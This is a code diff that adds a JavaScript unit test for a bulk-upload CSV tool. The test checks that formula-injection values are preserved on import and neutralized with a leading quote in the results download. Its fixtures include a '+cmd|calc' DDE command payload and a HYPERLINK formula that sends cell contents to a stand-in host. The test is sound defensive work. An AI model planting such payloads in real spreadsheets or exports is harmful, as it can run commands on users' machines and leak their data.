@@ -52,4 +52,18 @@ describe('the bulk-upload CSV', () => {
     const text = csvResults([{ row: rows[0], status: 'Created', password: 'k7Hq!p2Rz9@mWx4T' }]);
     assert.equal(text, 'First name,Last name,Display name,Email,Status update,Temporary password\nAda,Lovelace,"Lovelace, Ada",ada@contoso.com,Created,k7Hq!p2Rz9@mWx4T\n');
   });
+  it('reads neutralized names back to their original text and neutralizes formulas in the results download', () => {
+    const displayName = '=HYPERLINK("http://x.example/?"&A1,"click")';
+    const upload = `${header}"+cmd|calc","@SUM(1+1)","${displayName.replaceAll('"', '""')}",ada@contoso.com,\n,,"''=1+1",bob@contoso.com,\n`;
+    // A name that really starts with '= is written (by Tenantry, or a spreadsheet) with one quote more.
+    const { rows } = checkUserCsv(upload, domains);
+    assert.deepEqual(rows.map((r) => [r.firstName, r.lastName, r.displayName]), [['+cmd|calc', '@SUM(1+1)', displayName], ['', '', "'=1+1"]]);
+    const text = csvResults(rows.map((row) => ({ row, status: '-failed' })));
+    assert.equal(
+      text,
+      'First name,Last name,Display name,Email,Status update,Temporary password\n' +
+        `"'+cmd|calc","'@SUM(1+1)","'=HYPERLINK(""http://x.example/?""&A1,""click"")",ada@contoso.com,"'-failed",\n` +
+        `,,"''=1+1",bob@contoso.com,"'-failed",\n`,
+    );
+  });
 });
